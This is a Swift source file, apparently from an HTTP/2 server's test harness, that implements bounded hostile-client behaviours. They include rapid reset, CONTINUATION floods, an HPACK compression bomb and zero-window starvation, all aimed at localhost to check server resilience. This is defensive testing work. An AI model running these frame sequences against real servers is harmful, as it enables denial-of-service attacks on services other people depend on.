/// What hostile clients do to HTTP/2 servers. Each is bounded: it ends when the server closes, or after a number of
/// frames that no good client sends.
package enum Attack: String, CaseIterable, Sendable {
  /// Requests that are reset at once (CVE-2023-44487).
  case rapidReset
  /// Requests that the server is made to reset (CVE-2025-8671).
  case madeReset
  /// A header block that never ends.
  case continuation
  /// The same without an octet in it.
  case emptyContinuation
  case settings
  case ping
  /// DATA without an octet.
  case emptyData
  /// The same for a stream that has been refused.
  case emptyDataOnClosed
  /// Answers to PINGs that nobody has sent.
  case pongs
  /// Windows opened by one octet at a time.
  case windowUpdates
  case priorities
  /// A field of the dynamic table again and again: 64 MiB out of each frame.
  case compressionBomb
  /// Header sections as large as frames allow.
  case largeHeaders
  /// Answers that are asked for and never taken.
  case zeroWindow

  /// Plays it on a connection that was not begun yet.
  package func play(on c: HTTP2Connection) {
    c.keepsBodies = false
    switch self {
    case .zeroWindow:
      c.start([(.initialWindowSize, 0)])
      let streams = stride(from: UInt32(1), to: 100, by: 2)
      c.send(streams.map { .headers($0, Self.request("/big/100000")) })
      // Until the server has given up all of them.
      c.wait { c in streams.allSatisfy { c[$0].isOver } }
      return
    case .compressionBomb: Self.bomb(c)
    default:
      c.start()
      begin(c)
      for round in 0..<(self == .largeHeaders ? 20 : Self.rounds) where c.ending == nil && c.goAway == nil {
        c.send(frames(UInt32(round)))
        c.takeIn()
      }
    }
    c.drain(within: 1000)
  }

  private static let rounds = 400
  private static let perRound: UInt32 = 100

  private func begin(_ c: HTTP2Connection) {
    switch self {
    case .continuation, .emptyContinuation: c.send(.headers(1, Self.request(), complete: false))
    case .emptyData, .windowUpdates: c.send(.headers(1, Self.request("/hold", method: "POST"), end: false))
    case .emptyDataOnClosed:
      // A field with a capital letter.
      c.send(.headers(1, Self.request() + HPACK.literal(Header("X-A", "b")), end: false))
    default: break
    }
  }

  private func frames(_ round: UInt32) -> [Frame] {
    let first = round * Self.perRound
    return (first..<first + Self.perRound).flatMap { number -> [Frame] in
      let stream = number * 2 + 1
      return switch self {
      case .rapidReset: [.headers(stream, Self.request("/hold")), .reset(stream)]
      case .madeReset: [.headers(stream, Self.request("/hold"), end: false), .windowUpdate(stream, 0)]
      case .continuation:
        [
          .continuation(
            1, HPACK.literal(Header("x-\(number)", String(repeating: "a", count: 1000))), complete: false)
        ]
      case .emptyContinuation: [.continuation(1, [], complete: false)]
      case .settings: [.settings([(.initialWindowSize, number)])]
      case .ping: [.ping()]
      case .emptyData, .emptyDataOnClosed: [.data(1, [])]
      case .pongs: [.ping(ack: true)]
      case .windowUpdates: [.windowUpdate(0, 1), .windowUpdate(1, 1)]
      case .priorities: [.priority(stream, .init(on: 0, weight: UInt8(number & 0xFF)))]
      case .largeHeaders: number % 10 == 0 ? Self.large(stream) : []
      case .compressionBomb, .zeroWindow: []
      }
    }
  }

  private static func request(_ path: String = "/", method: String = "GET") -> [UInt8] {
    HPACK.block([Header(":method", method), ":scheme=http", Header(":path", path), ":authority=localhost"])
  }

  /// A HEADERS frame and eight CONTINUATIONs of 16 KiB.
  private static func large(_ stream: UInt32) -> [Frame] {
    let piece = (0..<4).flatMap { HPACK.literal(Header("x-\($0)", String(repeating: "a", count: 4000))) }
    return [.headers(stream, request(), complete: false)]
      + (0..<8).map { .continuation(stream, piece, complete: $0 == 7) }
  }

  private static func bomb(_ c: HTTP2Connection) {
    c.start()
    let entry = Header("x-bomb", String(repeating: "b", count: 4000))
    c.send(.headers(1, request() + HPACK.literal(entry, .incremental)))
    c.response(1)
    let block = request() + [UInt8](repeating: 0xBE, count: 16_000)
    for round in 1...100 where c.ending == nil && c.goAway == nil {
      c.send(.headers(UInt32(round) * 2 + 1, block))
      c.takeIn()
    }
  }
}
